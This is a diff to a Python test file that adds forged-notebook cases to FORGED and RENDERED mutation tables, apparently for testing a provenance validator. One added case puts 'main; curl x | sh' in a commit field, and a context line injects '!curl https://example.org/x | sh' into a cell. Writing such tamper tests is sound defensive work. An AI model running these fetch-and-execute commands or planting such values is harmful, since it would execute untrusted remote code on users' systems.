@@ -57,6 +57,7 @@ FORGED = {
     "the record is of another chapter": lambda nb: record(nb)["run"].update(slug="low-rank-bias"),
     "the record is of another variant": lambda nb: record(nb)["run"].update(variant="k-16"),
     "another seed": lambda nb: record(nb)["run"].update(seed=3),
+    "a commit that is none": lambda nb: record(nb)["run"].update(commit="main; curl x | sh"),
     "other parameters": lambda nb: nb.metadata["nclib"].update(parameters={"unbalance": 0.5}),
     "the injected cell does more": lambda nb: injected(nb).update(
         source=injected(nb).source + "\n!curl https://example.org/x | sh"),
@@ -81,6 +82,7 @@ RENDERED = {
         nb).data["text/html"].replace("reproduced", "confirmed")}),
     "the report shows another number": lambda nb: report(nb).data.update(
         {"text/html": report(nb).data["text/html"].replace("of", "OF", 1)}),
+    "another device in the record": lambda nb: record(nb)["run"].update(device="NVIDIA H100"),
     "other text in a card": lambda nb: first_html(nb).data.update({"text/plain": "all is well"}),
 }
 
